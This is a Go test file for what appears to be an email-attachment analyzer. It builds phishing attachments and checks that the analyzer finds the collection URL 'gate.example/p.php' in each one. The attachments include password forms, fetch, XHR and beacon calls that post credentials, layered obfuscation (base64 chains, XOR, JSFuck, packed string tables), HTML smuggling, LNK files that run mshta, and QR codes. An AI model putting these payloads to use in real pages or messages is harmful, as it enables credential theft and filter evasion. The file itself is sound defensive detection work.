package payload

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"github.com/klauspost/compress/gzip"
	"github.com/makiuchi-d/gozxing"
	"github.com/makiuchi-d/gozxing/qrcode"

	"github.com/coldwatch/coldwatch"
)

// gate is where every payload of this test leads in the end.
const gate = "https://gate.example/p.php"

const (
	gateForm  = `<form method=post action="` + gate + `"><input name=email><input type=password name=pw></form>`
	gatePage  = `<!doctype html><html><head><title>Sign in</title></head><body>` + gateForm + `</body></html>`
	gateFetch = `document.forms[0].onsubmit=function(e){e.preventDefault();fetch("` + gate + `",{method:"POST",body:new FormData(this)})}`
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func withScript(js string) []byte {
	return []byte("<html><body><form><input name=e><input type=password name=p></form><script>" + js + "</script></body></html>")
}

// codesJS writes text as the numbers of its characters, each changed by f.
func codesJS(s string, f func(int) int) string {
	var out []string
	for i := range len(s) {
		out = append(out, fmt.Sprint(f(int(s[i]))))
	}
	return strings.Join(out, ",")
}

func flip(s string) string {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return string(b)
}

func xored(s, key string) string {
	b := []byte(s)
	for i := range b {
		b[i] ^= key[i%len(key)]
	}
	return string(b)
}

func qr(t *testing.T, text string) [][]bool {
	m, err := qrcode.NewQRCodeWriter().Encode(text, gozxing.BarcodeFormat_QR_CODE, 0, 0, map[gozxing.EncodeHintType]interface{}{gozxing.EncodeHintType_MARGIN: 0})
	if err != nil {
		t.Fatal(err)
	}
	rows := make([][]bool, m.GetHeight())
	for y := range rows {
		for x := range m.GetWidth() {
			rows[y] = append(rows[y], m.Get(x, y))
		}
	}
	return rows
}

func qrPNG(t *testing.T, inverted bool) []byte {
	rows := qr(t, gate)
	const scale, margin = 6, 24
	g := image.NewGray(image.Rect(0, 0, len(rows[0])*scale+2*margin, len(rows)*scale+2*margin))
	for y := range g.Rect.Dy() {
		for x := range g.Rect.Dx() {
			cy, cx := (y-margin)/scale, (x-margin)/scale
			dark := y >= margin && x >= margin && cy < len(rows) && cx < len(rows[0]) && rows[cy][cx]
			if dark != inverted {
				g.SetGray(x, y, color.Gray{20})
			} else {
				g.SetGray(x, y, color.Gray{240})
			}
		}
	}
	var b bytes.Buffer
	if err := png.Encode(&b, g); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func qrText(t *testing.T, halves bool) string {
	rows := qr(t, gate)
	var b strings.Builder
	if !halves {
		for _, r := range rows {
			for _, d := range r {
				b.WriteString(map[bool]string{true: "██", false: "  "}[d])
			}
			b.WriteString("\n")
		}
		return b.String()
	}
	for y := 0; y < len(rows); y += 2 {
		for x := range rows[y] {
			low := y+1 < len(rows) && rows[y+1][x]
			b.WriteString(map[[2]bool]string{{true, true}: "█", {true, false}: "▀", {false, true}: "▄", {false, false}: " "}[[2]bool{rows[y][x], low}])
		}
		b.WriteString("\n")
	}
	return b.String()
}

func qrTable(t *testing.T) string {
	var b strings.Builder
	b.WriteString("<html><body><table cellspacing=0>")
	for _, r := range qr(t, gate) {
		b.WriteString("<tr>")
		for _, d := range r {
			b.WriteString(map[bool]string{true: `<td bgcolor="#000000"></td>`, false: `<td bgcolor="#ffffff"></td>`}[d])
		}
		b.WriteString("</tr>")
	}
	return b.String() + "</table></body></html>"
}

func qrSVG(t *testing.T) string {
	var b strings.Builder
	b.WriteString(`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 200"><rect width="200" height="200" fill="#fff"/>`)
	for y, r := range qr(t, gate) {
		for x, d := range r {
			if d {
				fmt.Fprintf(&b, `<rect x="%d" y="%d" width="4" height="4" fill="#000"/>`, 16+4*x, 16+4*y)
			}
		}
	}
	return b.String() + "</svg>"
}

// qrLines draws the code as generators of SVG do: runs of modules as lines, as one path, or as copies of one square.
func qrLines(t *testing.T, how string) string {
	var b strings.Builder
	b.WriteString(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="116" height="116"><defs><rect id="m" width="1" height="1"/></defs><path fill="#fff" d="M0 0h33v33h-33z"/>`)
	open, end, one := `<path fill="#000000" d="`, `"/>`, "M%d,%dh1v1h-1z"
	switch how {
	case "stroke":
		open, one = `<path transform="scale(4)" stroke="#000" class="qrline" d="`, "M%d %d.5h1"
	case "use":
		open, end, one = `<g fill="#112233">`, `</g>`, `<use x="%d" y="%d" xlink:href="#m"/>`
	}
	b.WriteString(open)
	for y, r := range qr(t, gate) {
		for x, d := range r {
			if d {
				fmt.Fprintf(&b, one, x+2, y+2)
			}
		}
	}
	return b.String() + end + "</svg>"
}

// qrBoxes draws the code into a PDF page with filled rectangles.
func qrBoxes(t *testing.T) []byte {
	var b strings.Builder
	b.WriteString("q 1 g 0 0 612 792 re f 0 0 0 rg 4 0 0 4 100 300 cm\n")
	rows := qr(t, gate)
	for y, r := range rows {
		for x, d := range r {
			if d {
				fmt.Fprintf(&b, "%d %d 1 1 re\n", x, len(rows)-y)
			}
		}
	}
	b.WriteString("f Q")
	return pdfOf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
		fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", b.Len(), b.String()))
}

// qrIndexed puts the code into a PDF as a picture of two colours of a palette.
func qrIndexed(t *testing.T, bits int) []byte {
	rows := qr(t, gate)
	const scale, margin = 8, 32
	w := len(rows)*scale + 2*margin
	stride := (w*bits + 7) / 8
	pix := make([]byte, stride*w)
	for y := range w {
		for x := range w {
			cy, cx := (y-margin)/scale, (x-margin)/scale
			if y >= margin && x >= margin && cy < len(rows) && cx < len(rows) && rows[cy][cx] {
				pix[y*stride+x*bits/8] |= 1 << (8 - bits - x*bits%8)
			}
		}
	}
	return pdfOf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>",
		fmt.Sprintf("<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace [/Indexed /DeviceRGB 1 <FFFFFF102030>] /BitsPerComponent %d /Filter /ASCIIHexDecode /Length %d >>\nstream\n%x>\nendstream", w, w, bits, 2*len(pix)+1, pix))
}

// folded breaks a long line as mail servers do.
func folded(s string) string {
	out := s[:950]
	for s = s[950:]; len(s) > 988; s = s[988:] {
		out += "\r\n " + s[:988]
	}
	return out + "\r\n " + s
}

func zipped(t *testing.T, name string, content []byte) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	w, err := z.Create(name)
	if err != nil {
		t.Fatal(err)
	}
	w.Write(content)
	z.Close()
	return b.Bytes()
}

func tarred(t *testing.T, name string, content []byte) []byte {
	var b, z bytes.Buffer
	w := tar.NewWriter(&b)
	if err := w.WriteHeader(&tar.Header{Name: name, Mode: 0o600, Size: int64(len(content))}); err != nil {
		t.Fatal(err)
	}
	w.Write(content)
	w.Close()
	g := gzip.NewWriter(&z)
	g.Write(b.Bytes())
	g.Close()
	return z.Bytes()
}

// isoOf is a disc image (ECMA-119) with one file in its root.
func isoOf(name string, content []byte) []byte {
	const sector = 2048
	b := make([]byte, 20*sector+len(content)+sector)
	le, be := binary.LittleEndian, binary.BigEndian
	record := func(name string, extent, size int, dir bool) []byte {
		r := make([]byte, 33+len(name)+(1-len(name)&1))
		r[0], r[32] = byte(len(r)), byte(len(name))
		le.PutUint32(r[2:], uint32(extent))
		be.PutUint32(r[6:], uint32(extent))
		le.PutUint32(r[10:], uint32(size))
		be.PutUint32(r[14:], uint32(size))
		if dir {
			r[25] = 2
		}
		copy(r[33:], name)
		return r
	}
	v := b[16*sector:]
	v[0] = 1
	copy(v[1:], "CD001\x01")
	le.PutUint32(v[80:], uint32(len(b)/sector))
	le.PutUint16(v[128:], sector)
	copy(v[156:], record("\x00", 18, sector, true))
	copy(b[17*sector:], "\xffCD001\x01")
	d := b[18*sector:]
	for _, r := range [][]byte{record("\x00", 18, sector, true), record("\x01", 18, sector, true), record(name+";1", 19, len(content), false)} {
		copy(d, r)
		d = d[len(r):]
	}
	copy(b[19*sector:], content)
	return b
}

func lnk(target, arguments string) []byte {
	b := make([]byte, 76)
	copy(b, "L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F")
	binary.LittleEndian.PutUint32(b[20:], 8|32|0x80)
	for _, s := range []string{target, arguments} {
		b = binary.LittleEndian.AppendUint16(b, uint16(len(s)))
		for i := range len(s) {
			b = append(b, s[i], 0)
		}
	}
	return b
}

func oneNote(file []byte) []byte {
	b := append([]byte("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3"), make([]byte, 1000)...)
	b = append(b, "\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac"...)
	b = binary.LittleEndian.AppendUint64(b, uint64(len(file)))
	b = append(append(b, make([]byte, 12)...), file...)
	return append(b, make([]byte, 64)...)
}

func pdfOf(objects ...string) []byte {
	var b strings.Builder
	b.WriteString("%PDF-1.5\n")
	for i, o := range objects {
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	return []byte(b.String() + "trailer << /Root 1 0 R >>\n%%EOF\n")
}

func qrPDF(t *testing.T) []byte {
	rows := qr(t, gate)
	const scale, margin = 5, 20
	w := len(rows[0])*scale + 2*margin
	pix := bytes.Repeat([]byte{255}, w*w)
	for y, r := range rows {
		for x, d := range r {
			for i := range scale * scale {
				if d {
					pix[(margin+y*scale+i/scale)*w+margin+x*scale+i%scale] = 0
				}
			}
		}
	}
	return pdfOf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /Resources << /XObject << /I 4 0 R >> >> /Contents 5 0 R >>",
		fmt.Sprintf("<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /ASCIIHexDecode /Length %d >>\nstream\n%x>\nendstream", w, w, 2*len(pix)+1, pix),
		"<< /Length 6 >>\nstream\n/I Do\n\nendstream")
}

// packed is the usual string table: an array of encoded strings, turned by a loop, behind a function that takes an index.
func table() string {
	words := []string{"location", "write", b64(gateForm), "atob", "document"}
	turned := append(append([]string{}, words[3:]...), words[:3]...)
	return `var _0x1a=['` + strings.Join(turned, "','") + `'];(function(a,n){var f=function(c){while(--c){a['push'](a['shift']())}};f(++n)}(_0x1a,2));` +
		`var _0x2b=function(i,k){i=i-0x0;var r=_0x1a[i];return r};window[_0x2b('0x4')][_0x2b('0x1')](window[_0x2b('0x3')](_0x2b('0x2')))`
}

// fuck spells text with six characters, from the words that JavaScript gives for nothing: false, undefined, true, and the
// source of a built-in function.
func fuck(s string) string {
	digits := func(n int) string {
		if n == 0 {
			return "+[]"
		}
		return "+" + strings.Repeat("!+[]+", n)[:5*n-1]
	}
	from := map[byte]string{}
	put := func(word, expr string) {
		for i := range len(word) {
			if _, had := from[word[i]]; !had && i < 10 {
				from[word[i]] = "(" + expr + ")[" + digits(i) + "]"
			}
		}
	}
	put("false", "![]+[]")
	put("true", "!![]+[]")
	put("undefined", "[][[]]+[]")
	var out []string
	for i := range len(s) {
		e, ok := from[s[i]]
		if !ok {
			e = strconv.Quote(s[i : i+1])
		}
		out = append(out, e)
	}
	return strings.Join(out, "+")
}

// TestDepth opens what attackers wrap a page or an address in, and holds that the address is found: as where a form or script
// sends, or as a link.
func TestDepth(t *testing.T) {
	pct := strings.NewReplacer("+", "%20").Replace(url.QueryEscape(gatePage))
	gzPage := func() string {
		var b bytes.Buffer
		g := gzip.NewWriter(&b)
		g.Write([]byte(gatePage))
		g.Close()
		return b.String()
	}()
	smuggle := func(name string, content []byte) []byte {
		return []byte(`<html><body><script>var d=atob("` + b64(string(content)) + `"),u=new Uint8Array(d.length);for(var i=0;i<d.length;i++)u[i]=d.charCodeAt(i);var b=new Blob([u],{type:"octet/stream"}),a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="` + name + `";document.body.appendChild(a);a.click();</script></body></html>`)
	}
	for _, c := range []struct {
		name, file string
		content    []byte
		layers     string // in the path of the payload that shows the address, in order; "" for any
		kind       string // of the destination, "" for any
	}{
		{"form", "a.html", []byte(gatePage), "", "form"},
		{"shtml", "a.shtml", []byte(gatePage), "", "form"},
		{"xhtml", "a.xhtml", []byte(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>` + gateForm + `</body></html>`), "", "form"},
		{"utf-16", "a.html", utf16LE(gatePage), "", "form"},
		{"base href", "a.html", []byte(`<html><base href="https://gate.example/x/"><form action="../p.php"><input type=password></form></html>`), "", "form"},
		{"formaction", "a.html", []byte(`<html><form><input type=password name=p><button formaction="` + gate + `">go</button></form></html>`), "", ""},
		{"meta refresh", "a.html", []byte(`<html><meta http-equiv="refresh" content="0; url='` + gate + `'"></html>`), "", "redirect"},
		{"iframe", "a.html", []byte(`<html><body><iframe src="` + gate + `" width=100%></iframe></body></html>`), "", ""},
		{"srcdoc", "a.html", []byte(`<html><iframe srcdoc="` + strings.ReplaceAll(gatePage, `"`, "&quot;") + `"></iframe></html>`), "srcdoc", "form"},
		{"data iframe", "a.html", []byte(`<html><iframe src="data:text/html;base64,` + b64(gatePage) + `"></iframe></html>`), "data-uri", "form"},
		{"data object", "a.html", []byte(`<html><object data="data:text/html;base64,` + b64(gatePage) + `"></object></html>`), "data-uri", "form"},
		{"data script", "a.html", []byte(`<html><form><input type=password></form><script src="data:text/javascript;base64,` + b64(gateFetch) + `"></script></html>`), "", "fetch"},
		{"fetch", "a.html", withScript(gateFetch), "", "fetch"},
		{"xhr", "a.html", withScript(`var x=new XMLHttpRequest;x.open("POST","` + gate + `");x.send(1)`), "", "xhr"},
		{"beacon", "a.html", withScript(`navigator.sendBeacon("` + gate + `",document.forms[0].p.value)`), "", "beacon"},
		{"jquery", "a.html", withScript(`$("form").submit(function(e){e.preventDefault();$.post("` + gate + `",$(this).serialize())})`), "", "xhr"},
		{"axios", "a.html", withScript(`axios.post("` + gate + `",{p:document.forms[0].p.value})`), "", ""},
		{"image beacon", "a.html", withScript(`new Image().src="` + gate + `?p="+document.forms[0].p.value`), "", ""},
		{"socket.io", "a.html", withScript(`var s=io("` + gate + `");s.emit("p",1)`), "", ""},
		{"event source", "a.html", withScript(`new EventSource("` + gate + `")`), "", ""},
		{"form built", "a.html", withScript(`var f=document.createElement("form");f.method="post";f.action="` + gate + `";document.body.appendChild(f);f.submit()`), "", "form"},
		{"atob", "a.html", withScript(`document.write(atob("` + b64(gatePage) + `"))`), "atob", "form"},
		{"atob by another name", "a.html", withScript(`window["\x61to\u0062"] && document["wr"+"ite"](window["\x61to\u0062"]("` + b64(gatePage) + `"))`), "atob", "form"},
		{"three times", "a.html", withScript(`document.write(atob(atob(atob("` + b64(b64(b64(gatePage))) + `"))))`), "atob,atob,atob", "form"},
		{"broken by a mail server", "a.html", withScript(`document.write(unescape("` + folded(strings.Repeat("%20", 700)+pct) + `"))`), "unescape", "form"},
		{"unescape", "a.html", withScript(`document.write(unescape("` + pct + `"))`), "unescape", "form"},
		{"decodeURIComponent", "a.html", withScript(`document.write(decodeURIComponent("` + pct + `"))`), "", "form"},
		{"written script writes", "a.html", withScript(`document.write(unescape("` + url.PathEscape(`<script>document.write(atob("`+b64(gatePage)+`"))</script>`) + `"))`), "unescape,atob", "form"},
		{"charcodes", "a.html", withScript(`var c=[` + codesJS(gatePage, func(n int) int { return n ^ 5 }) + `],s="";for(var i in c)s+=String.fromCharCode(c[i]^5);document.body.innerHTML=s`), "fromcharcode", "form"},
		{"hex", "a.html", withScript(`var h="` + hex.EncodeToString([]byte(gatePage)) + `",s="";for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));document.write(s)`), "", "form"},
		{"reversed", "a.html", withScript(`document.write(atob("` + flip(b64(gatePage)) + `".split("").reverse().join("")))`), "reverse,atob", "form"},
		{"replace", "a.html", withScript(`document.write("` + strings.NewReplacer(`"`, `\"`, "e", "~#").Replace(gatePage) + `".replace(/~#/g,"e"))`), "", "form"},
		{"xor key", "a.html", withScript(`function d(s,k){s=atob(s);var r="";for(var i=0;i<s.length;i++)r+=String.fromCharCode(s.charCodeAt(i)^k.charCodeAt(i%k.length));return r}document.write(d("` + b64(xored(gatePage, "cold")) + `","cold"))`), "atob", "form"},
		{"caesar", "a.html", withScript(`document.write(` + strconv.Quote(strings.Map(func(r rune) rune { return r + 1 }, gatePage)) + `.replace(/[\s\S]/g,function(c){return String.fromCharCode(c.charCodeAt(0)-1)}))`), "", "form"},
		{"string table", "a.html", withScript(table()), "", "form"},
		{"six characters", "a.html", withScript(`[][` + fuck("filter") + `]['constructor'](` + fuck(`fetch('`+gate+`')`) + `)()`), "", "fetch"},
		{"eval", "a.html", withScript(`eval(atob("` + b64(`document.write(atob("`+b64(gatePage)+`"))`) + `"))`), "atob", "form"},
		{"module and async", "a.html", []byte(`<html><form><input type=password></form><script type="module">const u=["https:","","gate.example","p.php"].join("/");const go=async()=>{await fetch(u,{method:"POST"})};document.forms[0].addEventListener("submit",go)</script></html>`), "", "fetch"},
		{"handler", "a.html", []byte(`<html><form onsubmit="location.href='` + gate + `';return false"><input type=password></form></html>`), "", "redirect"},
		{"javascript link", "a.html", []byte(`<html><a href="javascript:location='` + gate + `'">open</a></html>`), "", "redirect"},
		{"onload of an image", "a.html", []byte(`<html><img src=x onerror="document.write(atob('` + b64(gatePage) + `'))"></html>`), "atob", "form"},
		{"text of an element", "a.html", []byte(`<html><div id=d hidden>` + b64(gatePage) + `</div><script>document.write(atob(document.getElementById("d").innerText))</script></html>`), "atob", "form"},
		{"attribute of an element", "a.html", []byte(`<html><div id=d data-x="` + b64(gatePage) + `"></div><script>document.write(atob(document.getElementById("d").dataset.x))</script></html>`), "atob", "form"},
		{"text decoder", "a.html", withScript(`document.write(new TextDecoder().decode(Uint8Array.from(atob("` + b64(gatePage) + `"),c=>c.charCodeAt(0))))`), "atob", "form"},
		{"blob page", "a.html", withScript(`location=URL.createObjectURL(new Blob([atob("` + b64(gatePage) + `")],{type:"text/html"}))`), "atob", "form"},
		{"smuggled page", "a.html", smuggle("invoice.html", []byte(gatePage)), "", "form"},
		{"smuggled zip", "a.html", smuggle("invoice.zip", zipped(t, "x/invoice.html", []byte(gatePage))), "", "form"},
		{"smuggled by link", "a.html", []byte(`<html><a download="quote.zip" href="data:application/zip;base64,` + b64(string(zipped(t, "q.html", []byte(gatePage)))) + `">x</a></html>`), "data-uri", "form"},
		{"svg script", "a.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[window.location.href=atob("` + b64(gate) + `")]]></script></svg>`), "", "redirect"},
		{"svg foreign object", "a.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">` + gateForm + `</body></foreignObject></svg>`), "", "form"},
		{"svg onload", "a.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="location='` + gate + `'"></svg>`), "", "redirect"},
		{"svg link", "a.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="` + gate + `"><text>open</text></a></svg>`), "", ""},
		{"svgz", "a.svgz", gz(`<svg xmlns="http://www.w3.org/2000/svg"><script>location="` + gate + `"</script></svg>`), "", "redirect"},
		{"mht", "a.mht", []byte("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b; type=\"text/html\"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(gatePage) + "\r\n--b--\r\n"), "", "form"},
		{"zip", "a.zip", zipped(t, "a.html", []byte(gatePage)), "", "form"},
		{"zip in zip", "a.zip", zipped(t, "b.zip", zipped(t, "a.html", []byte(gatePage))), "", "form"},
		{"tar.gz", "a.tgz", tarred(t, "a.html", []byte(gatePage)), "", "form"},
		{"gz", "a.html.gz", []byte(gzPage), "", "form"},
		{"iso", "a.iso", isoOf("A.HTM", []byte(gatePage)), "", "form"},
		{"img", "a.img", isoOf("A.HTM", []byte(gatePage)), "", "form"},
		{"lnk", "a.lnk", lnk(`..\cmd.exe`, "/c mshta "+gate), "", "download"},
		{"lnk in iso", "a.iso", isoOf("A.LNK", lnk(`..\cmd.exe`, "/c mshta "+gate)), "", "download"},
		{"url file", "a.url", []byte("[InternetShortcut]\r\nURL=" + gate + "\r\n"), "", ""},
		{"one", "a.one", oneNote([]byte(gatePage)), "", "form"},
		{"hta in one", "a.one", oneNote([]byte("<script>location='" + gate + "'</script>")), "", "redirect"},
		{"ics", "a.ics", []byte("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Call\r\nDESCRIPTION:Join at https://gate.exam\r\n ple/p.php\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"), "", ""},
		{"ics html", "a.ics", []byte("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nX-ALT-DESC;FMTTYPE=text/html:<html><a href=\"" + gate + "\">Join</a></html>\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"), "", ""},
		{"vcf", "a.vcf", []byte("BEGIN:VCARD\r\nFN:Ann\r\nURL:" + gate + "\r\nEND:VCARD\r\n"), "", ""},
		{"docx link", "a.docx", docx(t, `<w:document><w:p><w:t>Open</w:t></w:p></w:document>`, `<Relationships><Relationship Id="r1" Type="http://schemas/hyperlink" Target="`+gate+`" TargetMode="External"/></Relationships>`), "", ""},
		{"docx template", "a.docx", docx(t, `<w:document/>`, `<Relationships><Relationship Id="r1" Type="http://schemas/attachedTemplate" Target="`+gate+`" TargetMode="External"/></Relationships>`), "", "download"},
		{"rtf link", "a.rtf", []byte(`{\rtf1 {\field{\*\fldinst HYPERLINK "` + gate + `"}{\fldrslt Open}}}`), "", ""},
		{"pdf link", "a.pdf", pdfOf("<< /Type /Catalog >>", "<< /Type /Annot /Subtype /Link /A << /S /URI /URI ("+gate+") >> >>"), "", ""},
		{"pdf hex link", "a.pdf", pdfOf("<< /Type /Catalog >>", "<< /Subtype /Link /A << /S /URI /URI <"+hex.EncodeToString([]byte(gate))+"> >> >>"), "", ""},
		{"pdf form", "a.pdf", pdfOf("<< /Type /Catalog /AcroForm << /Fields [2 0 R] >> >>", "<< /FT /Tx /T (password) /A << /S /SubmitForm /F ("+gate+") >> >>"), "", "form"},
		{"pdf script", "a.pdf", pdfOf("<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.launchURL\\(\"" + gate + "\",true\\)) >> >>"), "", ""},
		{"qr png", "a.png", qrPNG(t, false), "", ""},
		{"qr png inverted", "a.png", qrPNG(t, true), "", ""},
		{"qr pdf", "a.pdf", qrPDF(t), "", ""},
		{"qr blocks", "a.txt", []byte("Scan:\n\n" + qrText(t, false) + "\nThanks\n"), "", ""},
		{"qr half blocks", "a.txt", []byte("Scan:\n\n" + qrText(t, true) + "\nThanks\n"), "", ""},
		{"qr blocks in a page", "a.html", []byte("<html><pre>\n" + qrText(t, true) + "</pre></html>"), "", ""},
		{"qr table", "a.html", []byte(qrTable(t)), "", ""},
		{"qr svg", "a.svg", []byte(qrSVG(t)), "", ""},
		{"qr svg of lines", "a.svg", []byte(qrLines(t, "stroke")), "", ""},
		{"qr svg of one path", "a.svg", []byte(qrLines(t, "path")), "", ""},
		{"qr svg of copies", "a.svg", []byte(qrLines(t, "use")), "", ""},
		{"qr svg in a page", "a.html", []byte("<html><body>" + qrLines(t, "path") + "</body></html>"), "", ""},
		{"qr pdf of boxes", "a.pdf", qrBoxes(t), "", ""},
		{"qr pdf with a palette of bits", "a.pdf", qrIndexed(t, 1), "", ""},
		{"qr pdf with a palette of bytes", "a.pdf", qrIndexed(t, 8), "", ""},
		{"qr pdf with a palette of half bytes", "a.pdf", qrIndexed(t, 4), "", ""},
		{"qr data image", "a.html", []byte(`<html><img src="data:image/png;base64,` + b64(string(qrPNG(t, false))) + `"></html>`), "", ""},
	} {
		a := &coldwatch.Analysis{Message: &coldwatch.Message{Parts: []coldwatch.Part{{ID: "1", Filename: c.file, Disposition: "attachment", MediaType: "application/octet-stream", Content: c.content}}}}
		z := New(Limits{})
		z.Clock = nil
		z.Analyze(a)
		check(t, c.name, a)
		found := false
		for i := range a.Payloads {
			p := &a.Payloads[i]
			if leads(p, c.kind) && (c.layers == "" || strings.Contains(strings.Join(p.Layers, ","), c.layers)) {
				found = true
			}
		}
		if !found {
			t.Errorf("%s: %s is not found:\n%s", c.name, gate, describe(a))
		}
	}
}

// leads tells whether the payload names the gate: as a destination of the kind, or for no kind in any way.
func leads(p *coldwatch.Payload, kind string) bool {
	for _, d := range p.Destinations {
		if strings.HasPrefix(d.URL, gate) && (kind == "" || d.Kind == kind) {
			return true
		}
	}
	for _, f := range p.Forms {
		if f.Action == gate && (kind == "" || kind == "form") {
			return true
		}
	}
	for _, l := range p.Links {
		if strings.HasPrefix(l.URL, gate) && (kind == "") {
			return true
		}
	}
	return false
}

func describe(a *coldwatch.Analysis) string {
	var b strings.Builder
	for i := range a.Payloads {
		p := &a.Payloads[i]
		fmt.Fprintf(&b, "  %s %s %s layers %v traits %v links %v destinations %v text %.60q\n", p.ID, p.Via, p.Kind, p.Layers, p.Traits, p.Links, p.Destinations, p.Text)
	}
	return b.String()
}

func utf16LE(s string) []byte {
	b := []byte{0xff, 0xfe}
	for i := range len(s) {
		b = append(b, s[i], 0)
	}
	return b
}

func gz(s string) []byte {
	var b bytes.Buffer
	g := gzip.NewWriter(&b)
	g.Write([]byte(s))
	g.Close()
	return b.Bytes()
}

func docx(t *testing.T, document, rels string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, f := range [][2]string{{"[Content_Types].xml", "<Types/>"}, {"word/document.xml", document}, {"word/_rels/document.xml.rels", rels}, {"word/_rels/settings.xml.rels", rels}} {
		w, err := z.Create(f[0])
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(f[1]))
	}
	z.Close()
	return b.Bytes()
}
